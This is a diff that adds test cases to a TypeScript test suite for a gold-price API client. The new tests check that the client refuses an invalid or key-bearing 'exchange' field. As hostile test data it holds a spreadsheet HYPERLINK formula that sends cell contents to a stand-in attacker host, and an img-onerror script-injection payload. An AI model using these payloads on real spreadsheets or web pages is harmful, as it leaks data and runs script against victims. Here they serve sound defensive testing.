@@ -132,6 +132,39 @@ describe('goldapi client over HTTP', () => {
     expect(message.length).toBeLessThan(400);
   });
 
+  it.each([
+    ['a formula', '=HYPERLINK("http://attacker.example/?"&A1,"click")'],
+    ['markup', '<img src=x onerror=alert(1)>'],
+    ['lower case', 'forexcom'],
+    ['a long name', 'F'.repeat(33)],
+    ['the key itself', KEY],
+  ])('refuses an exchange that is not a closed name (%s): permanent, naming the field, never echoing it', async (_what, exchange) => {
+    fake.answer('goldapi', { json: { ...fixture('goldapi-latest'), exchange } });
+    const result = await client().fetchGoldPrice({ date: '2025-07-08', mode: 'latest' });
+    expect(result.ok).toBe(false);
+    const error = result.ok ? undefined : result.error;
+    expect(error).toMatchObject({ source: 'goldapi', kind: 'permanent' });
+    expect(error?.message).toMatch(/^invalid response: exchange: /);
+    expect(error?.message).not.toContain(exchange);
+  });
+
+  it('refuses an exchange that is the key, or holds it, in any letter case, even when the key looks like a name', async () => {
+    const upperKey = 'GOLDKEY-0123456789ABCDEF';
+    const keyed = goldApiClient({ baseUrl: fake.baseUrl('goldapi'), apiKey: upperKey, currency: 'USD' }, realHttp());
+    for (const exchange of [upperKey, `X${upperKey}`]) {
+      fake.answer('goldapi', { json: { ...fixture('goldapi-latest'), exchange } });
+      const result = await keyed.fetchGoldPrice({ date: '2025-07-08', mode: 'latest' });
+      expect(result.ok ? undefined : result.error).toEqual({
+        source: 'goldapi',
+        kind: 'permanent',
+        message: 'invalid response: exchange: must not contain the API key (GOLDAPI_KEY)',
+      });
+    }
+    // Its own lower-case form would be no name at all: refused by the pattern.
+    fake.answer('goldapi', { json: { ...fixture('goldapi-latest'), exchange: upperKey.toLowerCase() } });
+    expect((await keyed.fetchGoldPrice({ date: '2025-07-08', mode: 'latest' })).ok).toBe(false);
+  });
+
   it('times out a hanging server as a transient failure', async () => {
     fake.answer('goldapi', { hang: true });
     const result = await client(250).fetchGoldPrice({ date: '2025-07-08', mode: 'latest' });
